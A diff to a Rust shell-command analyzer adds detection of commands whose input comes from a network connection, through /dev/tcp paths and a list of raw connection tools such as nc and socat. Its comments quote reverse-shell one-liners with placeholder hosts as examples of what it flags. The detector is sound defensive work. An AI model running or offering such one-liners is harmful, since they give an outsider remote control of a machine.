@@ -67,6 +67,11 @@ pub fn producer_verb(words: &[Word]) -> (String, Vec<Word>) {
 
 /// What feeds a command's stdin, as a program source.
 pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
+    // `cat /tmp/f | sh -i 2>&1 | nc h 4444 > /tmp/f`: a program whose
+    // output goes to a connection is driven from it.
+    if output_to_connection(script, command) {
+        return Producer::Network("a connection its output goes to".into());
+    }
     match &command.stdin {
         Stdin::Heredoc { body, literal } => {
             if *literal {
@@ -82,7 +87,11 @@ pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
                 Producer::Literal(word.value.clone())
             }
         }
+        Stdin::File(file) if is_network_path(&file.value) => Producer::Network(file.value.clone()),
         Stdin::File(_) => Producer::File,
+        // `bash -i >& /dev/tcp/h/p 0>&1`, `exec 3<>/dev/tcp/h/p; sh <&3`:
+        // a line that opens a connection may hand it to the shell's stdin.
+        Stdin::Inherited if opens_network(script) => Producer::Network("/dev/tcp".into()),
         Stdin::Inherited => Producer::Dynamic,
         Stdin::Pipe(range) => {
             let mut literal = String::new();
@@ -128,6 +137,32 @@ pub fn stdin_producer(script: &Script, command: &SimpleCommand) -> Producer {
             verdict.unwrap_or(Producer::Literal(literal))
         }
     }
+}
+
+/// `/dev/tcp/HOST/PORT` or `/dev/udp/…`: bash opens a connection.
+pub fn is_network_path(path: &str) -> bool {
+    path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/")
+}
+
+/// Whether a later pipeline stage fed by `command` is a raw connection
+/// (`nc`, `ncat`, `socat`, `telnet`, `openssl`).
+fn output_to_connection(script: &Script, command: &SimpleCommand) -> bool {
+    const CONNECTIONS: &[&str] = &["nc", "ncat", "netcat", "openssl", "socat", "telnet"];
+    let Some(index) = script.commands.iter().position(|c| c.span == command.span) else {
+        return false;
+    };
+    script.commands.iter().any(|c| {
+        matches!(&c.stdin, Stdin::Pipe(range) if range.contains(&index))
+            && CONNECTIONS.contains(&producer_verb(&c.words).0.as_str())
+    })
+}
+
+/// Whether any command of the line redirects to or from the network.
+fn opens_network(script: &Script) -> bool {
+    script.commands.iter().any(|c| {
+        c.redirects.iter().any(|r| is_network_path(&r.target.value))
+            || matches!(&c.stdin, Stdin::File(f) if is_network_path(&f.value))
+    })
 }
 
 /// What a word's substitutions run: the network, a decoder, or something
